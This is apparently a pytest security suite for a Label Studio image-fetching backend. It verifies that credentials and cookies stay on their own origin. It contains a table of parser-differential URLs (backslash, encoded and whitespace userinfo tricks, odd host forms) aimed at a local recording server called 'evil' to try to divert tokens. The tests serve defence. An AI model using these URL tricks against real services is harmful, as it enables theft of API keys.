"""A key reaches only its own origin, whatever a task's URL (or a redirect) looks like.

Two loopback servers: a fake Label Studio (``ls``) and a foreign host that records everything it is sent
(``evil``). A table of URLs that Python's parsers and requests/urllib3 could read as different hosts is tried as
task images, as redirect targets of Label Studio and as /setup hostnames, with each kind of key (the configured
legacy token, a personal access token, the /setup token); the foreign host must never see a key.
"""

from __future__ import annotations

import pytest
from flask import redirect

from tests.support import LEGACY, PAT, FakeLabelStudio, RecordingServer, png_bytes
from tests.test_server import CONFIG, make_client
from yolo_backend.labelstudio.client import Credential, LabelStudioSession
from yolo_backend.labelstudio.images import ImageFetchError, ImageFetcher
from yolo_backend.labelstudio.urls import UnsafeURL, checked_url, origin_of

# {evil}: the foreign host's port, {ls}: Label Studio's. Each is a way to make one parser see Label Studio where
# the HTTP client would connect to the foreign host (or the other way round).
DIFFERENTIAL_URLS = [
    "http://127.0.0.1:{evil}\\@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}\\\\@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}\\.127.0.0.1:{ls}/x.jpg",
    "HTTP://127.0.0.1:{evil}\\@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}%5C@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}%5c@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}\t@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}\n@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}\r\n@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil} @127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{ls} @127.0.0.1:{evil}/x.jpg",
    "http://127.0.0.1:{evil};@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{ls}@127.0.0.1:{evil}/x.jpg",
    "http://user:pass@127.0.0.1:{evil}/x.jpg",
    "http://127.0.0.1:{evil}/@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}#@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}?@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1:{evil}\u3002@127.0.0.1:{ls}/x.jpg",
    "http://127.0.0.1\uff0e:{evil}/x.jpg",
    "http://[::ffff:127.0.0.1]:{evil}/x.jpg",
    "http://[::ffff:7f00:1]:{evil}/x.jpg",
    "http://127.0.0.1.:{evil}/x.jpg",
    "http://localhost.:{evil}/x.jpg",
    "http://127.0.0.1:0{evil}/x.jpg",
    "http://127.0.0.1:{evil}:{ls}/x.jpg",
    "http:/\\127.0.0.1:{evil}/x.jpg",
    "http:\\\\127.0.0.1:{evil}/x.jpg",
    "http://127.0.0.1:{evil}/x.jpg",
]

KINDS = ["legacy-token", "personal-access-token", "setup-token"]


def _session(kind: str, ls_url: str) -> LabelStudioSession:
    if kind == "setup-token":  # no LABEL_STUDIO_URL: the token Label Studio sent to /setup, for its hostname
        session = LabelStudioSession(None, None, timeout=3)
        session.update_from_setup(ls_url, LEGACY)
        return session
    return LabelStudioSession(ls_url, LEGACY if kind == "legacy-token" else PAT, timeout=3)


def _assert_no_key(evil: RecordingServer) -> None:
    for raw in evil.requests:
        head = raw.lower()
        assert b"\r\nauthorization:" not in head, raw[:300]
        assert LEGACY.encode() not in raw and PAT.encode() not in raw, raw[:300]


def _redirecting_ls(targets: dict) -> FakeLabelStudio:
    """A fake Label Studio that redirects ``/data/upload/1/r<i>.png`` to ``targets[i]`` (as a presign would)."""
    ls = FakeLabelStudio()

    @ls.app.get("/data/upload/1/go/<int:i>.png")
    def go(i):
        response = redirect("http://placeholder/", 302)
        response.headers["Location"] = targets[i]  # as sent, not normalised by Werkzeug
        return response

    return ls


@pytest.mark.parametrize("kind", KINDS)
def test_no_task_url_sends_a_key_to_another_host(kind):
    with RecordingServer() as evil, FakeLabelStudio() as ls:
        fetcher = ImageFetcher(_session(kind, ls.url), None, timeout=3)
        for template in DIFFERENTIAL_URLS:
            url = template.format(evil=evil.port, ls=ls.url.rsplit(":", 1)[1])
            try:
                fetcher.load(url)
            except ImageFetchError:
                pass
        _assert_no_key(evil)
        # The plain URL of the foreign host was fetched (without a key): the table reached it.
        assert any(raw.startswith(b"GET /x.jpg ") for raw in evil.requests)


@pytest.mark.parametrize("kind", KINDS)
def test_no_redirect_from_label_studio_carries_a_key_to_another_host(kind):
    with RecordingServer() as evil:
        targets: dict = {}  # filled once Label Studio's port is known
        with _redirecting_ls(targets) as ls:
            ls_port = ls.url.rsplit(":", 1)[1]
            targets.update({i: t.format(evil=evil.port, ls=ls_port) for i, t in enumerate(DIFFERENTIAL_URLS)})
            fetcher = ImageFetcher(_session(kind, ls.url), None, timeout=3)
            for i in targets:
                try:
                    fetcher.load(f"/data/upload/1/go/{i}.png")
                except ImageFetchError:
                    pass
            assert ls.auth_seen and all(ls.auth_seen)  # Label Studio itself got the key on every first hop
        _assert_no_key(evil)
        assert any(raw.startswith(b"GET /x.jpg ") for raw in evil.requests)


@pytest.mark.parametrize("template", DIFFERENTIAL_URLS[:-1])
def test_setup_hostnames_that_parsers_read_differently_are_refused(template, caplog):
    with RecordingServer() as evil, FakeLabelStudio() as ls:
        session = LabelStudioSession(None, None, timeout=3)
        session.update_from_setup(ls.url, LEGACY)
        hostname = template.format(evil=evil.port, ls=ls.url.rsplit(":", 1)[1]).removesuffix("/x.jpg")
        session.update_from_setup(hostname, None)          # no token: changes nothing
        session.update_from_setup(hostname, "other-token")  # a token of its own: only for its own origin
        fetcher = ImageFetcher(session, None, timeout=3)
        try:
            fetcher.load("/data/upload/1/a.png")
        except ImageFetchError:
            pass
        _assert_no_key(evil)


def test_the_setup_token_is_not_diverted_through_the_server():
    """Item 2 of the attack: after Label Studio's own /setup, a token-less /setup naming a backslash hostname must
    not send the next upload (with Label Studio's token) to the foreign host."""
    with RecordingServer() as evil, FakeLabelStudio() as ls:
        import tempfile
        from pathlib import Path

        with tempfile.TemporaryDirectory() as tmp:
            model = Path(tmp) / "best.pt"
            model.write_text("weights-A")
            client, context, _ = make_client(Path(tmp), model)  # no LABEL_STUDIO_URL
            assert client.post("/setup", json={"project": "1.1", "schema": CONFIG, "hostname": ls.url,
                                               "access_token": LEGACY}).status_code == 200
            ls_port = ls.url.rsplit(":", 1)[1]
            reply = client.post("/setup", json={"project": "1.1", "schema": CONFIG,
                                                "hostname": f"http://127.0.0.1:{evil.port}\\@127.0.0.1:{ls_port}"})
            assert reply.status_code == 200
            tasks = [{"id": 1, "data": {"image": "/data/upload/1/b.png"}}]
            reply = client.post("/predict", json={"tasks": tasks, "project": "1.1", "label_config": CONFIG})
            assert reply.status_code == 200 and "result" in reply.json["results"][0], reply.json
        assert evil.requests == []
        assert ls.auth_seen == [f"Token {LEGACY}"]


def test_a_personal_access_token_refresh_goes_only_to_its_origin():
    with RecordingServer() as evil:
        cred = Credential(evil.url, PAT, "LABEL_STUDIO_API_KEY", timeout=3)
        cred.origin = origin_of("http://127.0.0.1:1")  # as if the base URL had been read as another host
        with pytest.raises(UnsafeURL, match="not sent"):
            cred.header()
        assert evil.requests == []


@pytest.mark.parametrize("url, why", [
    ("http://a\\@b/x", "backslash"), ("http://a%5C@b/x", "user info"), ("http://a\t@b/x", "whitespace"),
    ("http://u:p@b/x", "user info"), ("http://b\u3002c/x", "non-ASCII"), ("ftp://b/x", "not an http"),
    ("http:///x", "no host"), ("http://b%2ec/x", "%-escapes"),
])
def test_checked_url_says_why_a_url_is_refused(url, why):
    with pytest.raises(UnsafeURL, match=why):
        checked_url(url)


def test_checked_url_keeps_ordinary_urls():
    for url in ("http://127.0.0.1:8080/data/upload/1/a b.png".replace(" ", "%20"), "https://ls.example/x?y=@z#w",
                "http://[::1]:8080/x", "HTTPS://LS.example/a/@/b", "http://ls/a\\b"):
        assert checked_url(url) == url
        assert origin_of(url) is not None


def test_a_refused_task_url_is_one_log_line_that_names_it(caplog):
    with FakeLabelStudio() as ls:
        fetcher = ImageFetcher(LabelStudioSession(ls.url, LEGACY, timeout=3), None, timeout=3)
        with pytest.raises(ImageFetchError, match="refused: .*backslash"):
            fetcher.load(f"http://127.0.0.1:1\\@{ls.url[7:]}/x.jpg")
    assert ls.hits == {}


def test_image_downloads_keep_no_cookies():
    """A Set-Cookie from Label Studio is not sent to another port of the same host, nor along redirects."""
    with RecordingServer() as evil, FakeLabelStudio() as ls:
        @ls.app.get("/data/upload/1/cookie.png")
        def cookie():
            from flask import Response

            response = Response(png_bytes(8, 8), mimetype="image/png")
            response.set_cookie("sessionid", "ls-session-secret")
            return response

        @ls.app.get("/data/upload/1/cookie-then-away.png")
        def away():
            response = redirect(f"{evil.url}/moved.png", 302)
            response.set_cookie("csrftoken", "ls-csrf-secret")
            return response

        fetcher = ImageFetcher(LabelStudioSession(ls.url, LEGACY, timeout=3), None, timeout=3)
        fetcher.load("/data/upload/1/cookie.png")
        fetcher.load("/data/upload/1/cookie-then-away.png")
        fetcher.load(f"{evil.url}/plain.png")
        fetcher.load("/data/upload/1/a.png")
        assert len(evil.requests) == 2
        assert not evil.saw("ls-session-secret") and not evil.saw("ls-csrf-secret")
        assert not any(b"\r\ncookie:" in raw.lower() for raw in evil.requests)


def test_the_adapter_alone_keeps_the_key_home():
    """Below the URL check: a prepared request whose connection is not the key's origin goes without the key, even
    when nothing refused its URL first."""
    import requests

    with RecordingServer() as evil, FakeLabelStudio() as ls:
        session = LabelStudioSession(ls.url, LEGACY, timeout=3)
        cred = session.credentials()[0]
        http = session._http
        for url in (f"{evil.url}/%5C@{ls.url[7:]}/x.jpg", f"{evil.url}/x.jpg"):
            prepared = http.prepare_request(requests.Request("GET", url))
            prepared.credential = cred
            assert http.send(prepared, timeout=3).status_code == 200
        prepared = http.prepare_request(requests.Request("GET", f"{ls.url}/data/upload/1/a.png"))
        prepared.credential = cred
        assert http.send(prepared, timeout=3).status_code == 200
        assert ls.auth_seen == [f"Token {LEGACY}"]
        _assert_no_key(evil)
        assert len(evil.requests) == 2
